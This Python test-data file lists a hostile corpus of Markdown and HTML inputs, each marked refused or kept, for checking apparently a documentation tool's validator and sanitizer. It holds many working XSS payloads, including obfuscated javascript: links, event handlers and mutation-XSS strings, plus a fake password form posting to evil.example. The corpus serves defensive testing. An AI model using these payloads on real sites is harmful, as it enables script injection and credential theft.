"""The hostile corpus: content written to run script, leak data or fake the page.

Each body case is (name, Markdown, expected): "refused" when ``icckb validate`` must
report it with its line (the sanitizer would remove something), "kept" when it is
harmless text that must pass and show as text. Every case, refused or not, is also
built with the body check switched off, so that the sanitizer alone has to make it
inert. Field cases are front-matter or registry values; they are refused or escaped.
"""

J = "alert(1)"  # what every payload tries to run (a dialog, which the browser tests watch for)

BODY_CASES = [
    # -- script addresses in raw links, obfuscated ----------------------------------
    ("raw-javascript", f'<a href="javascript:{J}">x</a>', "refused"),
    ("raw-decimal-entity", f'<a href="&#106;avascript:{J}">x</a>', "refused"),  # j as &#106;
    ("raw-decimal-no-semicolon", f'<a href="&#106avascript:{J}">x</a>', "refused"),  # entity without ;
    ("raw-zero-padded-entity", f'<a href="&#0000106;avascript:{J}">x</a>', "refused"),
    ("raw-hex-entity", f'<a href="&#x6A;ava&#x73;cript:{J}">x</a>', "refused"),
    ("raw-named-colon", f'<a href="javascript&colon;{J}">x</a>', "refused"),  # : as &colon;
    ("raw-tab-in-scheme", f'<a href="java&#x09;script:{J}">x</a>', "refused"),  # browsers drop tabs
    ("raw-newline-in-scheme", f'<a href="java&#x0A;script:{J}">x</a>', "refused"),
    ("raw-cr-in-scheme", f'<a href="java&#x0D;script:{J}">x</a>', "refused"),
    ("raw-leading-space", f'<a href=" javascript:{J}">x</a>', "refused"),
    ("raw-leading-control", f'<a href="&#x01;javascript:{J}">x</a>', "refused"),  # C0 controls are stripped
    ("raw-mixed-case", f'<a href="JaVaScRiPt:{J}">x</a>', "refused"),
    ("raw-unquoted", f"<a href=javascript:{J}>x</a>", "refused"),
    ("raw-vbscript", '<a href="vbscript:msgbox(1)">x</a>', "refused"),
    ("raw-data-html", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "refused"),
    ("raw-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "refused"),
    ("raw-javascript-comment-trick", f'<a href="javascript://%0a{J}">x</a>', "refused"),
    ("raw-uppercase-tag", f'<A HREF="javascript:{J}">x</A>', "refused"),
    # -- Markdown links ---------------------------------------------------------------
    ("md-javascript", f"[x](javascript:{J})", "refused"),
    ("md-entity", f"[x](&#106;avascript:{J})", "refused"),
    ("md-angle-brackets", f"[x](<javascript:{J}>)", "refused"),
    ("md-leading-space", f"[x]( javascript:{J})", "refused"),
    ("md-mixed-case", f"[x](JAVASCRIPT:{J})", "refused"),
    ("md-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "refused"),
    ("md-title-breakout", f'[x](https://example.org "t\\" onmouseover=\\"{J}")', "kept"),  # the quote stays in the title
    ("md-url-breakout", f'[x](https://example.org/"onmouseover="{J})', "kept"),  # the quote is percent-encoded or escaped
    # -- reference links --------------------------------------------------------------
    ("ref-javascript", f"[x][r]\n\n[r]: javascript:{J}", "refused"),
    ("ref-angle", f"[x][r]\n\n[r]: <javascript:{J}>", "refused"),
    ("ref-entity", f"[x][r]\n\n[r]: &#106;avascript:{J}", "refused"),
    ("ref-image", f"![x][i]\n\n[i]: javascript:{J}", "refused"),
    # -- autolinks ----------------------------------------------------------------------
    ("autolink-javascript", f"<javascript:{J}>", "refused"),  # an unknown element to HTML
    ("autolink-quote", f'<https://example.org/"onmouseover="{J}>', "kept"),
    ("autolink-mailto-breakout", '<mailto:a@example.org?subject="><script>alert(1)</script>>', "refused"),
    # -- images -------------------------------------------------------------------------
    ("md-image-javascript", f"![x](javascript:{J})", "refused"),
    ("md-image-breakout", f'![x](x" onerror="{J})', "kept"),
    ("img-onerror", f"<img src=x onerror={J}>", "refused"),
    ("img-javascript-src", f'<img src="javascript:{J}">', "refused"),
    ("img-srcset", f'<img src="x" srcset="javascript:{J} 1x">', "refused"),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "refused"),
    ("img-slash-separator", f"<img/src=x/onerror={J}>", "kept"),  # one attribute: src="x/onerror=alert(1)"
    # -- script and active elements -----------------------------------------------------
    ("script", f"<script>{J}</script>", "refused"),
    ("script-mixed-case", f"<ScRiPt>{J}</sCrIpT>", "refused"),
    ("script-src", '<script src="https://evil.example/x.js"></script>', "refused"),
    ("script-slash", f"<script/x>{J}</script>", "refused"),
    ("script-unclosed", f"<script>{J}", "refused"),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "refused"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "refused"),
    ("object", '<object data="javascript:alert(1)"></object>', "refused"),
    ("embed", '<embed src="javascript:alert(1)">', "refused"),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>', "refused"),
    ("applet", '<applet code="x"></applet>', "refused"),
    ("template", f"<template><script>{J}</script></template>", "refused"),
    # -- event attributes -------------------------------------------------------------
    ("div-onmouseover", f"<div onmouseover={J}>hover</div>", "refused"),
    ("p-onclick", f'<p onclick="{J}">click</p>', "refused"),
    ("details-ontoggle", f"<details open ontoggle={J}><summary>s</summary>x</details>", "refused"),
    ("video-source-onerror", f"<video><source onerror={J}></video>", "refused"),
    ("audio-onerror", f"<audio src=x onerror={J}></audio>", "refused"),
    ("input-autofocus", f"<input autofocus onfocus={J}>", "refused"),
    ("body-onload", f"<body onload={J}>", "refused"),
    ("marquee-onstart", f"<marquee onstart={J}>x</marquee>", "refused"),
    ("span-onpointerenter", f"<span onpointerenter={J}>x</span>", "refused"),
    ("event-no-space", f'<a href="https://example.org"onclick="{J}">x</a>', "kept"),  # not HTML to Markdown: shown as text
    # -- forms ----------------------------------------------------------------------------
    ("form-action", '<form action="javascript:alert(1)"><input type="submit"></form>', "refused"),
    ("form-phishing", '<form action="https://evil.example/steal"><input name="password" type="password"></form>', "refused"),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>', "refused"),
    ("isindex", '<isindex action="javascript:alert(1)" type="submit">', "refused"),
    ("input-image", '<input type="image" src="javascript:alert(1)">', "refused"),
    # -- SVG and MathML ---------------------------------------------------------------
    ("svg-onload", f"<svg onload={J}>", "refused"),
    ("svg-script", f"<svg><script>{J}</script></svg>", "refused"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "refused"),
    ("svg-animate", f"<svg><animate onbegin={J} attributeName=x dur=1s>", "refused"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', "refused"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,&lt;svg id=x&gt;&lt;/svg&gt;#x"/></svg>', "refused"),
    ("svg-foreignobject", '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', "refused"),
    ("math-href", '<math href="javascript:alert(1)">x</math>', "refused"),
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', "refused"),
    # -- style ------------------------------------------------------------------------------
    ("style-element", "<style>body { display: none }</style>", "refused"),
    ("style-attribute-url", '<p style="background:url(javascript:alert(1))">x</p>', "refused"),
    ("style-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake page</div>', "refused"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "refused"),
    # -- document-level elements -----------------------------------------------------
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "refused"),
    ("meta-csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">", "refused"),
    ("base-javascript", '<base href="javascript:alert(1)//">', "refused"),
    ("base-elsewhere", '<base href="https://evil.example/">', "refused"),
    # -- comments and parser differentials (mutation XSS) ------------------------------
    ("comment-early-close", f"<!--><script>{J}</script>-->", "refused"),
    ("comment-bang-close", f"<!-- --!><script>{J}</script> -->", "refused"),
    ("comment-conditional", f"<!--[if IE]><script>{J}</script><![endif]-->", "kept"),  # all comment: removed whole
    ("cdata", f"<![CDATA[><script>{J}</script>]]>", "refused"),
    ("noscript-title", f'<noscript><p title="</noscript><img src=x onerror={J}>"></noscript>', "refused"),
    ("noembed-title", f'<noembed><img title="</noembed><img src=x onerror={J}>"></noembed>', "refused"),
    ("xmp-title", f'<xmp><img title="</xmp><img src=x onerror={J}>"></xmp>', "refused"),
    ("svg-style-mutation", f'<svg></p><style><a id="</style><img src=1 onerror={J}>">', "refused"),
    ("math-mglyph-mutation", f"<math><mtext><table><mglyph><style><img src=x onerror={J}>", "refused"),
    ("form-math-mutation", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={J}>", "refused"),
    ("textarea-breakout", f'<textarea><img title="</textarea><img src=x onerror={J}>"></textarea>', "refused"),
    ("select-template", f"<select><template><img src=x onerror={J}></template></select>", "refused"),
    # -- Markdown extensions ----------------------------------------------------------
    ("attr-list-onclick", 'text\n{: onclick="alert(1)" }', "refused"),
    ("attr-list-style", 'text\n{: style="position:fixed;inset:0" }', "refused"),
    ("attr-list-link-href", f'[x](https://example.org){{: href="javascript:{J}" }}', "refused"),
    ("attr-list-clobber-id", "text\n{: #__md_scope }", "refused"),  # the theme's global
    ("attr-list-data", 'text\n{: data-md-component="search" }', "refused"),  # a theme script hook
    ("md-in-html-link", f'<div markdown="1">[x](javascript:{J})</div>', "refused"),
    ("abbr-html", f"HTML here\n\n*[HTML]: <img src=x onerror={J}>", "kept"),  # the definition is a title: text
    ("heading-html", f"## <img src=x onerror={J}> heading", "refused"),
    ("heading-attr-list", "## heading {: onclick=alert(1) }", "refused"),
    ("admonition-title", f'!!! note "<img src=x onerror={J}>"\n    text', "refused"),
    ("admonition-body", f"!!! note\n\n    <img src=x onerror={J}>", "refused"),
    # -- text that only looks dangerous ----------------------------------------------
    ("template-syntax", "{{ config.extra }} {% include 'x' %} {# c #}", "kept"),
    ("escaped-tags", "&lt;script&gt;alert(1)&lt;/script&gt;", "kept"),
    ("code-span", "`<script>alert(1)</script>`", "kept"),
    ("fenced-code", "```\n<script>alert(1)</script>\n```", "kept"),
    ("word-javascript", "Read about javascript: it is a language.", "kept"),
]

# Values in front matter or registries: each must be refused by validation, or shown
# as the text it is. (field, value)
FIELD_CASES = [
    ("title", '"><script>alert(1)</script>'),
    ("title", '" onmouseover="alert(1)" x="'),
    ("title", "{{ 7*7 }} {% raw %}"),
    ("summary", '<img src=x onerror="alert(1)">'),
    ("summary", "</title><script>alert(1)</script>"),
    ("partners", ['"><svg onload=alert(1)>']),
    ("contact", "javascript:alert(1)"),
    ("funding", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("sources", ["[x](javascript:alert(1))"]),
    ("links", [{"title": "x", "url": "javascript:alert(1)", "lang": "en"}]),
    ("links", [{"title": "x", "url": "https://example.org/\" onclick=\"alert(1)", "lang": "en"}]),
    ("links", [{"title": "x", "url": " JAVASCRIPT:alert(1)", "lang": "en"}]),
    ("links", [{"title": "x", "url": "https://example.org", "lang": 'en" onclick="alert(1)'}]),
    ("title", "\u202eevil\u202c"),  # a right-to-left override disguising text
]
